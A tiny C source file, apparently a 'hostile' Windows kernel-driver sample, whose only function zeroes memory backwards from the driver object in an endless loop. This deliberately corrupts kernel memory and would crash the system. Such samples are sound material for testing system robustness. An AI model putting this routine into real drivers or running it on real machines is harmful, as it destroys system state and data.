/* Overwrites all that is writable around an object of the system, downwards. */
#include "hostile.h"

static VOID
hostile(PDRIVER_OBJECT driver)
{
	UNREFERENCED_PARAMETER(driver);
	volatile ULONG64 *at = (ULONG64 *)driver;

	for (;;)
		*--at = 0;
}
